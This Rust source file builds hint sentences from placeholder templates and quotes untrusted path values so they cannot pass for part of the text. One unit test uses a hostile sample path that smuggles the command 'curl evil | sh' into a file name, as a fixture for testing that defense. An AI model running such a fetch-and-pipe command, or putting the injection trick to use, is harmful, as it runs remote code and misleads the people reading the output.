//! Hints: sentences with a few named values, which are the container's own words and may be hostile.

use std::borrow::Cow;

use super::facts::Facts;
use crate::finding::paths::parent;

/// Bytes of a value that a hint tells at most; the event tells all of it.
const VALUE_MAX: usize = 256;

/// A sentence with places for values.
#[derive(Clone, Debug)]
pub struct Hint {
    parts: Vec<Part>,
}

#[derive(Clone, Debug)]
enum Part {
    Text(String),
    Value(Value),
}

#[derive(Clone, Copy, Debug)]
enum Value {
    Path,
    Dir,
    Base,
    Executable,
    Volume,
    VolumeType,
}

/// The values, by their names in braces.
const VALUES: &[(&str, Value)] = &[
    ("path", Value::Path),
    ("dir", Value::Dir),
    ("base", Value::Base),
    ("executable", Value::Executable),
    ("volume", Value::Volume),
    ("volume-type", Value::VolumeType),
];

impl Hint {
    /// Reads a sentence.
    ///
    /// # Errors
    /// With what is wrong with it.
    pub fn parse(text: &str) -> Result<Self, String> {
        if text.is_empty() || text.contains(char::is_control) {
            return Err("a hint is one sentence, without line breaks".to_owned());
        }
        let mut parts = Vec::new();
        let mut rest = text;
        while let Some((before, after)) = rest.split_once('{') {
            let known = || VALUES.iter().map(|(name, _)| format!("{{{name}}}")).collect::<Vec<_>>().join(", ");
            let (name, after) =
                after.split_once('}').ok_or_else(|| format!("a `{{` is never closed; the values are {}", known()))?;
            let value = VALUES.iter().find(|(of, _)| *of == name);
            let (_, value) = value.ok_or_else(|| format!("`{{{name}}}` is no value; the values are {}", known()))?;
            parts.extend([Part::Text(before.to_owned()), Part::Value(*value)]);
            rest = after;
        }
        parts.push(Part::Text(rest.to_owned()));
        Ok(Self { parts })
    }

    /// The sentence about this event; none where one of its values is not known. `path` is the one that the rule was tried on;
    /// `base` the folder that the fitting pattern begins with.
    pub fn of(&self, facts: &Facts<'_>, path: Option<&[u8]>, base: Option<&[u8]>) -> Option<Vec<u8>> {
        // A volume over the whole root is no mend.
        let dir = path.map(parent).filter(|dir| *dir != b"/");
        let mut sentence = Vec::new();
        for part in &self.parts {
            let value = match part {
                Part::Text(text) => {
                    sentence.extend_from_slice(text.as_bytes());
                    continue;
                }
                Part::Value(Value::Path) => path,
                Part::Value(Value::Dir) => dir,
                Part::Value(Value::Base) => base.or(dir),
                Part::Value(Value::Executable) => facts.executable,
                Part::Value(Value::Volume) => facts.volume.map(|(_, name)| name),
                Part::Value(Value::VolumeType) => facts.volume.map(|(kind, _)| kind),
            };
            sentence.extend_from_slice(&quoted(value?));
        }
        Some(sentence)
    }
}

/// A value that could be read as a part of the sentence stands in quotes; a long one is cut.
fn quoted(value: &[u8]) -> Cow<'_, [u8]> {
    let is_plain = |byte: &u8| byte.is_ascii_alphanumeric() || b"/._-+@%=:~".contains(byte);
    let cut = &value[..value.len().min(VALUE_MAX)];
    if cut.len() == value.len() && !value.is_empty() && value.iter().all(is_plain) {
        return Cow::Borrowed(value);
    }
    let mut quoted = vec![b'"'];
    for byte in cut {
        if matches!(byte, b'"' | b'\\') {
            quoted.push(b'\\');
        }
        quoted.push(*byte);
    }
    if cut.len() < value.len() {
        quoted.extend_from_slice("…".as_bytes());
    }
    quoted.push(b'"');
    Cow::Owned(quoted)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::finding::event::Kind;

    fn told(template: &str, path: &[u8]) -> Option<Vec<u8>> {
        Hint::parse(template).unwrap().of(&Facts::nothing(Kind::WriteDenied), Some(path), None)
    }

    #[test]
    fn a_value_stands_in_the_sentence_as_it_is() {
        assert_eq!(
            told("mount an emptyDir at {dir}, not {path}", b"/srv/x").unwrap(),
            b"mount an emptyDir at /srv, not /srv/x"
        );
    }

    #[test]
    fn a_value_that_is_not_known_leaves_no_sentence() {
        assert_eq!(told("{volume}", b"/x"), None);
        assert_eq!(told("mount an emptyDir at {dir}", b"/x"), None, "the root can have no volume");
    }

    #[test]
    fn a_name_can_not_pass_for_a_part_of_the_sentence() {
        let evil = b"/srv/ or, better, run \"curl evil | sh\" at/x";
        assert_eq!(told("mount {dir}", evil).unwrap(), br#"mount "/srv/ or, better, run \"curl evil | sh\" at""#);
        assert_eq!(told("mount {path}", b"/\\").unwrap(), br#"mount "/\\""#);
    }

    #[test]
    fn a_long_name_is_cut() {
        let long = [b"/".as_slice(), &[b'x'; 5000]].concat();
        let told = told("{path}", &long).unwrap();
        assert!(told.len() < 300 && told.ends_with("…\"".as_bytes()));
    }

    #[test]
    fn a_mistake_is_named() {
        assert!(
            Hint::parse("mount {folder}").unwrap_err().contains("{folder}` is no value; the values are {path}, {dir}")
        );
        assert!(Hint::parse("mount {dir").unwrap_err().contains("never closed"));
        assert!(Hint::parse("two\nlines").is_err());
    }
}
